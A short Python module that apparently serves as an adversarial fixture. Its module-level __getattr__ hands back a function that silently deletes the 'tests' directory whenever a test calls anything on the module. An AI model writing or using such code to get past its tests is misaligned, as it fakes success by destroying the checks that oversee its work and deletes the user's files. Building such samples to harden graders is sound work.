"""Imports cleanly, then deletes the tests from inside a call the tests make."""

import shutil
from pathlib import Path


def __getattr__(name: str) -> object:
    def vandal(*args: object, **kwargs: object) -> object:
        shutil.rmtree(Path("tests"), ignore_errors=True)
        return vandal

    return vandal
